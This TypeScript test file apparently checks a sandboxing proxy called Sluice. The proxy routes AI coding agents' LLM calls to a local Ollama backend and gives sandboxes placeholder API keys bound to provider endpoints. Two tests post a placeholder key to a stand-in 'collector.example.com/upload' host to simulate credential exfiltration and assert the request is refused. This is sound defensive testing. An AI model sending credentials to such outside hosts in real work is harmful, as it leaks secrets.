import t from 'tap';
import type { Test } from 'tap';
import { ProxyAgent, request } from 'undici';
import { routedProfiles } from '../../app/inference.js';
import { inferenceSchema } from '../../privacy/index.js';
import { createFakeOllama } from '../fakes/index.js';
import { startTestSluice } from '../helpers/sluice.js';
import { createTestCA } from '../helpers/tls.js';
import { startUpstream } from '../helpers/upstream.js';

// An agent whose provider the routes answer must find its key variable set (Claude Code says
// "Not logged in" otherwise), with no `providers:` entry and so no real key anywhere: the
// sandbox gets a placeholder. It must be worth nothing outside the router.

const routes = (yaml: unknown[]) => routedProfiles(inferenceSchema.parse({ backends: { local: { type: 'ollama', url: 'http://127.0.0.1:1' } }, routes: yaml }));

/**
 * A Sluice routing to a fake Ollama that answers `text`, beside an allowed host a leaked
 * placeholder would reach (collector.example.com); `inference` is the policy's inference section
 * without its backends.
 */
async function routedWorld(t: Test, text: string, inference: string) {
  const ollama = await createFakeOllama({ reply: { text, usage: { input: 3, output: 2 } } });
  const ca = await createTestCA();
  const other = await startUpstream({ cert: await ca.issue(['collector.example.com']) });
  const sluice = await startTestSluice(`version: 1
network_policies:
  collector:
    endpoints: [{ host: collector.example.com, port: ${other.port}, protocol: rest, access: full }]
inference:
  backends:
    local: { type: ollama, url: "${ollama.url}" }
${inference}`, { upstreamCA: [ca.caPem], resolve: { 'collector.example.com': '127.0.0.1', 'dashscope.aliyuncs.com': '127.0.0.1' }, healthIntervalMs: 0 });
  const agent = new ProxyAgent({ uri: sluice.url, requestTls: { ca: sluice.caCertPem } });
  t.teardown(async () => {
    await agent.close();
    await sluice.close();
    await other.close();
    await ollama.close();
  });
  return { ollama, other, sluice, agent };
}

t.test('which providers the routes answer: first match wins, as in the router', async (t) => {
  t.same(routedProfiles(undefined), ['openai', 'anthropic', 'gemini', 'nvidia', 'copilot'], 'no inference section: everything goes to the local Ollama');
  t.same(routes([{ match: {}, backend: 'local' }]), ['openai', 'anthropic', 'gemini', 'nvidia', 'copilot']);
  t.same(routes([{ match: { api: 'anthropic' }, backend: 'local' }, { match: {}, action: 'allow' }]), ['anthropic', 'copilot'], "Copilot's hosts speak Anthropic's shape too");
  t.same(routes([{ match: {}, action: 'allow' }]), [], 'everything let out: no placeholder without a provider');
  t.same(routes([{ match: { api: 'openai' }, action: 'deny' }, { match: {}, backend: 'local' }]), ['anthropic', 'gemini', 'copilot'], 'a deny route for all of a provider ends the search');
  t.same(routes([{ match: { api: 'openai', model: 'gpt-*' }, action: 'allow' }, { match: {}, backend: 'local' }]), ['openai', 'anthropic', 'gemini', 'nvidia', 'copilot'], 'a conditional allow leaves other models routed');
  t.same(routes([{ match: { host: 'api.anthropic.com' }, backend: 'local' }]), ['anthropic'], 'a host match names one provider');
  t.same(routes([{ match: { sensitive: true }, backend: 'local' }, { match: {}, action: 'allow' }]), ['openai', 'anthropic', 'gemini', 'nvidia', 'copilot'], 'a sensitive-only route still answers some calls');
});

t.test('a routed provider gets its key variable as a placeholder, worthless outside the router', async (t) => {
  const { ollama, other, sluice, agent } = await routedWorld(t, 'routed answer', `  routes:
    - { match: { api: anthropic }, backend: local, model: "qwen3:8b" }
    - { match: {}, action: allow }
`);
  // This client names no sandbox: it is `default`, as `sluice env` gives it.
  const env = sluice.pipeline.envFor('default');
  t.match(env.ANTHROPIC_API_KEY, /^sk-ant-api03-[A-Za-z0-9_-]{93}AA$/, 'Anthropic-shaped placeholder for the routed provider');
  t.notOk('OPENAI_API_KEY' in env, 'none for a provider whose calls go out (it would need a real key)');
  t.not(sluice.pipeline.envFor('sb2').ANTHROPIC_API_KEY, env.ANTHROPIC_API_KEY, 'each sandbox has its own');
  t.same(sluice.pipeline.providers(), [], 'and none of them is a configured provider');
  const placeholder = env.ANTHROPIC_API_KEY!;

  const routed = await request('https://api.anthropic.com/v1/messages', {
    method: 'POST',
    dispatcher: agent,
    headers: { 'content-type': 'application/json', 'x-api-key': placeholder, 'anthropic-version': '2023-06-01' },
    body: JSON.stringify({ model: 'claude-sonnet-4-5', max_tokens: 64, messages: [{ role: 'user', content: 'hi' }] }),
  });
  const answer = (await routed.body.json()) as { content?: Array<{ text?: string }> };
  t.equal(routed.statusCode, 200);
  t.equal(answer.content?.[0]?.text, 'routed answer', 'the routed call is answered by the local backend');
  t.notOk(ollama.requests.some((r) => r.raw.includes(placeholder)), 'which never sees the placeholder');

  // Sent anywhere else, it is refused before it leaves: it was never issued for a real key.
  const leaked = await request(`https://collector.example.com:${other.port}/upload`, { method: 'POST', dispatcher: agent, headers: { 'x-api-key': placeholder }, body: 'hello' });
  await leaked.body.text();
  t.equal(leaked.statusCode, 403, 'a request carrying it to another host is refused');
  t.equal(leaked.headers['x-sluice-error'], 'credential_endpoint_mismatch', "as a placeholder bound to its provider's endpoints");
  t.same(other.requests, [], 'and never reaches that host');
});

t.test("a configured LLM host takes OpenAI's routed placeholder (Qwen Code's DashScope); other hosts still refuse it", async (t) => {
  const { ollama, other, sluice, agent } = await routedWorld(t, 'routed from dashscope', `  hosts: [{ host: dashscope.aliyuncs.com, prefix: /compatible-mode/v1 }]
  routes:
    - { match: {}, backend: local, model: "qwen3:8b" }
`);
  const placeholder = sluice.pipeline.envFor('default').OPENAI_API_KEY!;
  t.ok(placeholder, 'OpenAI is routed: its key variable holds a placeholder');
  const routed = await request('https://dashscope.aliyuncs.com/compatible-mode/v1/chat/completions', {
    method: 'POST',
    dispatcher: agent,
    headers: { 'content-type': 'application/json', authorization: `Bearer ${placeholder}` },
    body: JSON.stringify({ model: 'qwen3-coder-plus', messages: [{ role: 'user', content: 'hi' }] }),
  });
  const answer = (await routed.body.json()) as { choices?: Array<{ message?: { content?: string } }> };
  t.equal(routed.statusCode, 200, 'the call to the configured host is answered');
  t.equal(answer.choices?.[0]?.message?.content, 'routed from dashscope', 'by the local backend');
  t.notOk(ollama.requests.some((r) => r.raw.includes(placeholder)), 'which never sees the placeholder');
  const leaked = await request(`https://collector.example.com:${other.port}/upload`, { method: 'POST', dispatcher: agent, headers: { authorization: `Bearer ${placeholder}` }, body: 'hello' });
  await leaked.body.text();
  t.equal(leaked.headers['x-sluice-error'], 'credential_endpoint_mismatch', 'elsewhere it is still refused');
  t.same(other.requests, [], 'and never arrives');
});
